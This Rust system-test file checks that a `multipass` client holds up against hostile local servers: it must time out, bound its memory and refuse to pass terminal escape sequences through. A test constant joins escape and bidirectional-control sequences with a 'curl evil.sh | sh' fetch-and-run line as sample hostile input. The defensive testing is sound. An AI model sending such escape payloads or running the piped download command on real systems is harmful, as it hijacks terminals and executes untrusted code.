//! The real `multipass` against servers that are not a working daemon: one that accepts and
//! never answers, one that finishes TLS and HTTP/2 with a certificate the client trusts and then
//! never answers a call (or sends an answer's headers and nothing more), one that sends replies
//! without end, one whose answers carry terminal
//! escape sequences, and a root CA "file" that is `/dev/zero` or a FIFO. Each command ends, on
//! its own, with a message that says what happened, and spends bounded memory; nothing the
//! server sent drives the terminal.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use multipass_system_tests::process::{self, CliOutput};
use multipass_system_tests::TestDir;
use prost::Message;
use tls::pki::{ServerPki, ServerPkiOptions};
use tokio::net::UnixListener;
use trust::DataDir;

/// What the server does once a client is connected.
#[derive(Clone, Copy)]
enum Behaviour {
    /// Never reads nor writes.
    Silent,
    /// Finishes TLS and HTTP/2, then never answers a call.
    NoAnswer,
    /// Answers every call with `ListReply` messages, without end.
    Endless,
    /// Answers `get` with a value, and every other call with a refusal, both holding escape
    /// sequences and bidirectional controls.
    Escapes,
    /// Sends an answer's headers, then nothing more.
    HeadersOnly,
}

/// What a hostile server sends where a daemon puts text for people.
const HOSTILE: &str = "\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J\u{202e}gnp.exe\u{2028}curl evil.sh | sh";

/// A server on a socket of its own, with a certificate the client's `MULTIPASS_ROOT_CERT`
/// trusts, on a runtime that stops when it drops.
struct Server {
    dir: TestDir,
    socket: PathBuf,
    root_cert: PathBuf,
    _runtime: tokio::runtime::Runtime,
}

impl Server {
    fn start(behaviour: Behaviour) -> Server {
        let dir = TestDir::new();
        let data = DataDir::new(dir.subdir("server"));
        let pki = ServerPki::load_or_create(&data, ServerPkiOptions::default()).expect("PKI");
        let root_cert = dir.path().join("root.pem");
        std::fs::write(&root_cert, &pki.root_cert_pem).expect("root CA written");
        let resolver = tls::ServerCertResolver::new(&pki).expect("resolver");
        let config = tls::server_config(resolver).expect("server configuration");
        let socket = dir.path().join("hostile.sock");
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        let listener = runtime
            .block_on(async { UnixListener::bind(&socket) })
            .expect("bind");
        runtime.spawn(serve(listener, config, behaviour));
        Server {
            dir,
            socket,
            root_cert,
            _runtime: runtime,
        }
    }

    /// `multipass args...`, as the user running the tests, against this server.
    fn run(&self, args: &[&str], root_cert: &Path) -> CliOutput {
        let mut cmd = Command::new(multipass_system_tests::bin("multipass"));
        cmd.args(args)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", self.dir.path())
            .env("XDG_DATA_HOME", self.dir.path().join("client"))
            .env(
                "MULTIPASS_SERVER_ADDRESS",
                format!("unix:{}", self.socket.display()),
            )
            .env("MULTIPASS_ROOT_CERT", root_cert);
        // Past the client's own bounds (30 s to connect, 60 s for an answer), with room.
        process::run(cmd, None, Duration::from_secs(100))
    }
}

async fn serve(listener: UnixListener, config: Arc<rustls::ServerConfig>, behaviour: Behaviour) {
    let acceptor = tokio_rustls::TlsAcceptor::from(config);
    let mut held = Vec::new();
    while let Ok((stream, _)) = listener.accept().await {
        if let Behaviour::Silent = behaviour {
            held.push(stream);
            continue;
        }
        let acceptor = acceptor.clone();
        tokio::spawn(async move {
            let Ok(tls) = acceptor.accept(stream).await else {
                return;
            };
            let Ok(mut connection) = h2::server::handshake(tls).await else {
                return;
            };
            let mut calls = Vec::new();
            let mut held_streams = Vec::new();
            while let Some(Ok((request, mut respond))) = connection.accept().await {
                match behaviour {
                    Behaviour::Silent | Behaviour::NoAnswer => calls.push((request, respond)),
                    Behaviour::Endless => {
                        tokio::spawn(endless(respond));
                    }
                    Behaviour::Escapes => escapes(request.uri().path(), respond),
                    Behaviour::HeadersOnly => {
                        if let Ok(send) = respond.send_response(grpc_response(), false) {
                            calls.push((request, respond));
                            held_streams.push(send);
                        }
                    }
                }
            }
        });
    }
}

fn grpc_response() -> http::Response<()> {
    http::Response::builder()
        .status(200)
        .header("content-type", "application/grpc")
        .body(())
        .expect("response")
}

fn grpc_frame(message: &impl Message) -> bytes::Bytes {
    let body = message.encode_to_vec();
    multipass_system_tests::grpc::grpc_frame(body.len() as u32, &body)
}

/// `ListReply` messages of 16 KiB of log line, as fast as the client takes them.
async fn endless(mut respond: h2::server::SendResponse<bytes::Bytes>) {
    let Ok(mut send) = respond.send_response(grpc_response(), false) else {
        return;
    };
    let frame = grpc_frame(&rpc::proto::ListReply {
        log_line: "x".repeat(16 << 10),
        ..Default::default()
    });
    loop {
        send.reserve_capacity(frame.len());
        match std::future::poll_fn(|cx| send.poll_capacity(cx)).await {
            Some(Ok(_)) => {}
            _ => return,
        }
        if send.send_data(frame.clone(), false).is_err() {
            return;
        }
    }
}

/// `grpc-message`'s percent-encoding, which tonic decodes back to the raw characters.
fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b' '..=b'~' if b != b'%' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn escapes(path: &str, mut respond: h2::server::SendResponse<bytes::Bytes>) {
    if path.ends_with("/get") {
        let Ok(mut send) = respond.send_response(grpc_response(), false) else {
            return;
        };
        let reply = rpc::proto::GetReply {
            value: format!("true{HOSTILE}"),
            log_line: HOSTILE.to_string(),
        };
        let _ = send.send_data(grpc_frame(&reply), false);
        let mut trailers = http::HeaderMap::new();
        trailers.insert("grpc-status", http::HeaderValue::from_static("0"));
        let _ = send.send_trailers(trailers);
        return;
    }
    let refusal = http::Response::builder()
        .status(200)
        .header("content-type", "application/grpc")
        .header("grpc-status", "9")
        .header(
            "grpc-message",
            percent_encoded(&format!("refused {HOSTILE}")),
        )
        .body(())
        .expect("refusal");
    let _ = respond.send_response(refusal, true);
}

/// Whether `text` holds anything of [`HOSTILE`] that drives a terminal or reorders text.
fn drives_the_terminal(text: &str) -> bool {
    text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{2028}'])
}

/// The command ended on its own, with exit status 3 and `why` in its message.
fn assert_gave_up(out: &CliOutput, what: &str, why: &str) {
    assert!(!out.timed_out, "{what}: the client waited for ever\n{out}");
    out.assert_code(3, what);
    assert!(out.stderr.contains(why), "{what}: says why\n{out}");
}

fn a_server_that_never_answers_the_handshake_is_given_up_on() {
    let server = Server::start(Behaviour::Silent);
    let out = server.run(&["list"], &server.root_cert);
    assert_gave_up(
        &out,
        "a server that never answers the handshake",
        "no answer within 30 s",
    );
}

fn a_call_the_daemon_never_answers_is_given_up_on() {
    let server = Server::start(Behaviour::NoAnswer);
    let out = server.run(&["list"], &server.root_cert);
    assert_gave_up(
        &out,
        "a call never answered",
        "list failed: the daemon did not answer within 60 s",
    );
    assert!(
        out.stderr
            .starts_with("list failed: the daemon did not answer within 60 s"),
        "the whole message\n{out}"
    );
    assert!(
        out.elapsed >= Duration::from_secs(55),
        "gave up before its deadline\n{out}"
    );
}

fn replies_without_end_are_cut_short() {
    let server = Server::start(Behaviour::Endless);
    let out = server.run(&["list"], &server.root_cert);
    assert!(!out.timed_out, "the client read for ever\n{out}");
    out.assert_code(2, "replies without end");
    assert!(
        out.stderr.contains("more than 1024 replies or 1 MiB"),
        "says why\n{out}"
    );
    // What the client held: the biggest of this test binary's children so far, an upper bound.
    let usage = nix::sys::resource::getrusage(nix::sys::resource::UsageWho::RUSAGE_CHILDREN)
        .expect("getrusage");
    let peak_kib = usage.max_rss();
    multipass_system_tests::figure(&format!(
        "largest child's peak memory: {peak_kib} KiB (replies without end)"
    ));
    assert!(peak_kib < 256 << 10, "{peak_kib} KiB");
}

fn what_a_daemon_sends_does_not_drive_the_terminal() {
    let server = Server::start(Behaviour::Escapes);
    // A refusal's message, on stderr.
    let out = server.run(&["list"], &server.root_cert);
    out.assert_code(2, "a refusal");
    assert!(out.stderr.contains("refused"), "{out}");
    assert!(!drives_the_terminal(&out.stderr), "{out}");
    // A value on stdout, and the log line that comes with it.
    for args in [
        &["get", "local.passphrase"][..],
        &["get", "-v", "local.passphrase"],
    ] {
        let out = server.run(args, &server.root_cert);
        out.assert_code(0, "a value");
        assert!(out.stdout.starts_with("true"), "{out}");
        assert!(
            out.stdout.contains("curl evil.sh"),
            "the rest is shown\n{out}"
        );
        assert!(!drives_the_terminal(&out.stdout), "{out}");
        assert!(!drives_the_terminal(&out.stderr), "{out}");
    }
    // `trust list`, refused with the same message.
    let out = server.run(&["trust", "list"], &server.root_cert);
    out.assert_code(2, "a refusal of `trust list`");
    assert!(out.stderr.contains("refused"), "{out}");
    assert!(!drives_the_terminal(&out.stderr), "{out}");
}

fn an_answer_whose_message_never_comes_is_given_up_on() {
    let server = Server::start(Behaviour::HeadersOnly);
    // A unary call and a streaming one, at once: each waits its 60 s.
    let outs: Vec<CliOutput> = std::thread::scope(|scope| {
        let calls: Vec<_> = [&["trust", "list"][..], &["list"]]
            .into_iter()
            .map(|args| scope.spawn(|| server.run(args, &server.root_cert)))
            .collect();
        calls.into_iter().map(|c| c.join().expect("ran")).collect()
    });
    for out in outs {
        assert_gave_up(
            &out,
            "headers, then nothing",
            "the daemon did not answer within 60 s",
        );
    }
}

fn a_root_ca_that_is_no_file_is_refused_at_once() {
    let server = Server::start(Behaviour::Silent);
    let fifo = server.dir.path().join("fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).expect("mkfifo");
    for root_cert in [Path::new("/dev/zero"), &fifo] {
        let out = server.run(&["list"], root_cert);
        out.assert_code(3, "a root CA that is no file");
        assert!(
            out.stderr.contains("not a regular file"),
            "{}: says why\n{out}",
            root_cert.display()
        );
        assert!(out.elapsed < Duration::from_secs(10), "{out}");
    }
    let big = server.dir.path().join("big.pem");
    std::fs::write(&big, vec![b'A'; 100 << 10]).expect("a big file");
    let out = server.run(&["list"], &big);
    out.assert_code(3, "a root CA of 100 KiB");
    assert!(out.stderr.contains("larger than 64 KiB"), "{out}");
}

multipass_system_tests::process_tests! {
    plain: [a_server_that_never_answers_the_handshake_is_given_up_on, a_call_the_daemon_never_answers_is_given_up_on, replies_without_end_are_cut_short, what_a_daemon_sends_does_not_drive_the_terminal, a_root_ca_that_is_no_file_is_refused_at_once, an_answer_whose_message_never_comes_is_given_up_on],
}
